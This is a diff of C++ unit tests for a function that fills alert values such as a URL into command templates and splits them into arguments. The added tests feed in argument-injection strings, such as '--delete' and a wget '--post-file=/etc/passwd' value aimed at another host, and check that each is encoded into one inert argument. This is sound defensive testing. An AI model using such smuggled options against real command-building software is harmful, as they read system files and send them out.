@@ -95,14 +95,30 @@ TEST(AlertFacts, TheClockIsReadAgainForTheShortFormOfTheDate) {
 TEST(AlertFacts, QuotesOfValuesDoNotSplitAQuotedArgument) {
   AlertFacts facts = kFacts;
   facts.url = "http://example.com/\" --delete \"";
+  const std::string fetched = "http://example.com/\"%20--delete%20\"";
   EXPECT_THAT(splitCommandLine(filledCommand("prog \"~url~\" \"~2~\" end", facts)),
-              ElementsAre("prog", facts.url, facts.url, "end"));
+              ElementsAre("prog", fetched, fetched, "end"));
   EXPECT_EQ(filled("\"~url~\"", facts), "\"" + facts.url + "\"");
 }
 
 TEST(AlertFacts, AnUnquotedBlankOfAValueSplits) {
   EXPECT_THAT(splitCommandLine(filledCommand("prog ~date~ \"~date~\"")),
               ElementsAre("prog", "2024-05-17", "12:00:30", "2024-05-17 12:00:30"));
+}
+
+TEST(AlertFacts, AnAddressIsOneArgumentOfAProgramAndNoOption) {
+  AlertFacts facts = kFacts;
+  const auto arguments = [&](const std::string& url) {
+    facts.url = url;
+    return splitCommandLine(filledCommand("wget ~url~ ~2~ \"~url~\"", facts));
+  };
+  const std::string both = "http://--post-file=/etc/passwd%20http://me.test/";
+  EXPECT_THAT(arguments("--post-file=/etc/passwd http://me.test/"), ElementsAre("wget", both, both, both));
+  const std::string indented = "http://-O%09x%0D%0Ay";
+  EXPECT_THAT(arguments(" \t-O\tx\r\ny "), ElementsAre("wget", indented, indented, indented));
+  const std::string ordinary = "http://a.test/b?c=d%20e&f=-g";
+  EXPECT_THAT(arguments(ordinary), ElementsAre("wget", ordinary, ordinary, ordinary));
+  EXPECT_EQ(filled("~url~", facts), facts.url);
 }
 
 TEST(AlertFacts, AnEmptyValueBetweenQuotesIsAnEmptyArgument) {
